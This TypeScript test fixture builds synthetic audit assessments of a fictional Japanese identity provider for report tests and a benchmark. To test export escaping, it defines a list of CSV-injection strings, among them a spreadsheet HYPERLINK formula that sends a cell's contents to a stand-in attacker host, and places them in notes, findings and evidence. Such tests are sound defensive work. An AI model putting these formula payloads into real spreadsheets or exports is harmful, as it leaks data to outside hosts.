/**
 * Realistic assessments for the report tests and the report benchmark (not a shipped code
 * path). The assessment is built the way the app builds one — `newAssessment` and then every
 * edit through `applyChanges` — so the journal is a real audit trail and every id is checked
 * against the pack.
 */
import { newAssessment } from '../assessment/create';
import { applyChanges, type JournalEntry } from '../assessment/ops';
import type { Assessment } from '../assessment/schema';
import { toScoringInput } from '../assessment/scoring-input';
import { sampleInit } from '../assessment/test-fixtures';
import { packHash } from '../criteria/canonical';
import type { Criterion, Pack } from '../criteria/schema';
import { sha256Hex } from '../criteria/sha256';
import { score } from '../scoring/score';
import type { ScoreResult } from '../scoring/types';

/** Text a spreadsheet would run as a formula if written as it is (OWASP CSV injection). */
export const HOSTILE_TEXTS = ['=HYPERLINK("http://evil.example/?d="&A1,"詳細")', '+1+1', '-1', '@SUM(A1:A9)', '\tTAB先頭', '\rCR先頭'] as const;

export interface ReportFixture {
  assessment: Assessment;
  journal: JournalEntry[];
  score: ScoreResult;
}

export interface FixtureOptions {
  /** Third-party assessment holding the applicant's self-assessment claims. Default true. */
  claims?: boolean;
  /** Put HOSTILE_TEXTS into notes, justifications, a finding and an evidence description. Default true. */
  hostile?: boolean;
  /** Evidence items to collect; default one per five criteria, at least 12. */
  evidence?: number;
}

const EVIDENCE_NAMES = [
  ['本人確認手順書_v3.pdf', 'application/pdf'],
  ['認証ログ抽出_2025-05.csv', 'text/csv'],
  ['リスク評価書_2025年度.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
  ['ICチップ読取り画面.png', 'image/png'],
  ['情報セキュリティ基本方針.pdf', 'application/pdf'],
  ['委託先管理台帳.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
  ['interview-notes-CISO.txt', 'text/plain'],
  ['federation-metadata.xml', 'application/xml'],
] as const;

const NOTES = [
  '手順書 v3 第4章に規定されており、運用記録 25 件を抽出して手順どおりに実施されていることを確認した。',
  'CISO へのインタビューにより、年次のリスク評価と経営層による承認が行われていることを確認した。',
  'テスト環境で認証フローを実行し、失敗時のロックアウトと監査ログの記録を確認した。',
  'Verified in the configuration export that the setting is enforced for all tenants.',
];

/** ISO time `k` steps of 7 minutes after the assessment started. */
const at = (k: number): string => new Date(Date.UTC(2025, 5, 2, 0, 30) + k * 7 * 60_000).toISOString().replace('.000Z', 'Z');

/**
 * A third-party assessment of a Japanese identity provider against `pack`: every criterion
 * answered (mostly conformant, some minor and major non-conformities, some not applicable
 * with a justification), evidence linked, findings with corrective actions, and optionally
 * the applicant's claims.
 */
export function realisticAssessment(pack: Pack, options: FixtureOptions = {}): ReportFixture {
  const { claims = true, hostile = true } = options;
  const init = sampleInit();
  const roles = pack.roles.some((r) => r.id === 'IdP') ? ['IdP'] : [pack.roles[0]!.id];
  const capabilities = (pack.capabilities ?? []).slice(0, 5).map((c) => c.id);
  const targets: Record<string, string> = {};
  for (const d of pack.dimensions) {
    const sorted = [...d.levels].sort((x, y) => x.rank - y.rank);
    targets[d.id] = (d.kind === 'baseline' ? sorted[0] : (sorted[1] ?? sorted[0]))!.id;
  }
  let a = newAssessment(
    {
      ...init,
      organization: { ...init.organization, legalName: '株式会社サンプル認証', legalNameEn: 'Sample Authentication K.K.' },
      service: { name: 'サンプルID 連携基盤', description: '会員企業向けの OpenID Connect プロバイダ。身元確認、当人認証及び属性提供を行う。', scope: '本番環境の認証基盤、東京本社の運用センター及び委託先の本人確認センター。' },
      pack: { id: pack.id, version: pack.version, hash: pack.hash },
      roles,
      capabilities,
      targets,
      assessors: [
        { name: '佐藤 花子', organization: '株式会社エグザンプル監査', role: 'lead', email: 'sato@example-audit.jp' },
        { name: 'John Smith', organization: 'Example Assurance LLC', role: 'technical-expert' },
        { name: '鈴木 一郎', organization: '株式会社エグザンプル監査', role: 'observer' },
      ],
      independenceStatement: '評価者及び所属組織は、過去24か月間に被評価組織に対するコンサルティング、システム構築その他の支援を行っておらず、被評価組織との間に利害関係はない。',
    },
    { id: 'a1b2c3d4-0000-4000-8000-000000000001', now: at(0) },
  );

  const changes: unknown[] = [];
  const answered = pack.criteria.filter((c) => !c.satisfiedBy);
  const evidenceCount = options.evidence ?? Math.max(12, Math.ceil(pack.criteria.length / 5));
  const hashes: string[] = [];
  for (let i = 0; i < evidenceCount; i++) {
    const [base, mediaType] = EVIDENCE_NAMES[i % EVIDENCE_NAMES.length]!;
    const round = Math.floor(i / EVIDENCE_NAMES.length);
    const name = round === 0 ? base : base.replace(/(\.[a-z]+)$/, `_${round + 1}$1`);
    const hash = sha256Hex(`evidence ${i} ${name}`);
    hashes.push(hash);
    changes.push({
      op: 'evidence.add',
      hash,
      item: {
        name,
        mediaType,
        size: 1024 * (17 + ((i * 7919) % 9000)),
        capturedAt: at(1 + i),
        capturedBy: i % 3 === 0 ? 'John Smith' : '佐藤 花子',
        ...(hostile && i === 2 ? { description: HOSTILE_TEXTS[0] } : i % 4 === 0 ? { description: '被評価組織から受領した版' } : {}),
      },
    });
  }

  const statusOf = (i: number): 'conformant' | 'minor-nc' | 'major-nc' | 'not-applicable' =>
    i % 41 === 7 ? 'major-nc' : i % 19 === 5 ? 'minor-nc' : i % 13 === 3 ? 'not-applicable' : 'conformant';
  const hostileAt = new Map<number, string>(hostile ? HOSTILE_TEXTS.map((h, k) => [2 + k * 9, h]) : []);
  answered.forEach((c: Criterion, i) => {
    const status = statusOf(i);
    const set: Record<string, unknown> = { status, methods: c.methods };
    if (status === 'not-applicable') set.justification = i === 3 && hostile ? HOSTILE_TEXTS[2] : '対象サービスは当該方式による身元確認を提供していないため、適用しない。';
    const h = hostileAt.get(i);
    set.notes = h ?? NOTES[i % NOTES.length];
    if (i % 6 === 0) set.samplingNotes = `運用記録 ${120 + i} 件から無作為に 25 件を抽出した。`;
    changes.push({ op: 'answer.set', criterion: c.id, set });
    changes.push({ op: 'evidence.link', hash: hashes[i % hashes.length]!, criterion: c.id });
    if (i % 3 === 0) changes.push({ op: 'evidence.link', hash: hashes[(i * 7 + 3) % hashes.length]!, criterion: c.id });
  });

  let findingNo = 0;
  const nextId = (): string => `F-${String(++findingNo).padStart(3, '0')}`;
  answered.forEach((c, i) => {
    const status = statusOf(i);
    if (status === 'major-nc') {
      changes.push({
        op: 'finding.create',
        finding: { id: nextId(), class: 'major-nc', criteria: [c.id], description: `${c.id}: 規定された管理策が運用されておらず、記録も存在しない。`, status: 'open' },
      });
    } else if (status === 'minor-nc') {
      changes.push({
        op: 'finding.create',
        finding: {
          id: nextId(),
          class: 'minor-nc',
          criteria: [c.id],
          description: hostile && findingNo === 1 ? HOSTILE_TEXTS[1] : `${c.id}: 手順書の改訂履歴が一部記録されていない。`,
          correctiveAction: { plan: '手順書の改訂管理を文書管理規程に組み込み、過去の改訂履歴を補完する。', owner: '情報セキュリティ室', dueDate: '2025-09-30' },
          status: 'plan-accepted',
        },
      });
    }
  });
  const first = answered[0]!.id;
  changes.push({ op: 'finding.create', finding: { id: nextId(), class: 'observation', criteria: [first], description: '教育記録の様式が部署ごとに異なる。', status: 'open' } });
  changes.push({ op: 'finding.create', finding: { id: nextId(), class: 'ofi', criteria: [], description: 'Consider automating the quarterly access review.', status: 'open' } });
  changes.push({ op: 'finding.create', finding: { id: nextId(), class: 'good-practice', criteria: [answered[1]?.id ?? first], description: '障害対応訓練を四半期ごとに実施し、結果を経営層に報告している。', status: 'verified-closed' } });

  if (claims) {
    const claimed: Record<string, { status: string; notes?: string }> = {};
    answered.forEach((c, i) => {
      const status = statusOf(i);
      // The applicant claims conformance where the assessor found non-conformities, and once
      // claims a criterion not applicable that the assessor found applicable.
      claimed[c.id] = { status: status === 'major-nc' || status === 'minor-nc' ? 'conformant' : i === 4 ? 'not-applicable' : status };
    });
    changes.push({ op: 'claims.import', source: { organization: '株式会社サンプル認証', receivedOn: '2025-05-20', document: '自己評価書_2025.xlsx' }, claims: claimed });
  }

  const actorOf = (k: number): string => (k % 5 === 0 ? 'John Smith' : '佐藤 花子');
  const batch = applyChanges(
    a,
    changes.map((change, k) => ({ change, meta: { at: at(100 + k), actor: actorOf(k) } })),
    { pack },
  );
  a = batch.assessment;
  const created: JournalEntry = { seq: 0, at: at(0), actor: '佐藤 花子', change: { op: 'assessment.create', assessment: null }, old: null, new: null };
  return { assessment: a, journal: [created, ...batch.entries], score: score(pack, toScoringInput(a)) };
}

/**
 * `pack` with its criteria repeated until there are `count` (ids suffixed `.r2`, `.r3`…,
 * satisfiedBy rewritten alike), the mapping dropped and the hash recomputed: a large pack
 * with real Japanese text, for the benchmark.
 */
export function scalePack(pack: Pack, count: number): Pack {
  const criteria: Criterion[] = [];
  for (let round = 1; criteria.length < count; round++) {
    const suffix = round === 1 ? '' : `.r${round}`;
    for (const c of pack.criteria) {
      if (criteria.length >= count) break;
      const copy: Criterion = { ...c, id: `${c.id}${suffix}` };
      if (c.satisfiedBy) copy.satisfiedBy = c.satisfiedBy.map((id) => `${id}${suffix}`);
      criteria.push(copy);
    }
  }
  // Summative criteria cut off from their constituents by the count would not score.
  const ids = new Set(criteria.map((c) => c.id));
  const kept = criteria.map((c) => (c.satisfiedBy && !c.satisfiedBy.every((id) => ids.has(id)) ? (({ satisfiedBy: _drop, ...rest }) => rest)(c) : c));
  const { mapping: _mapping, hash: _hash, ...rest } = pack;
  const scaled = { ...rest, criteria: kept };
  return { ...scaled, hash: packHash(scaled) };
}
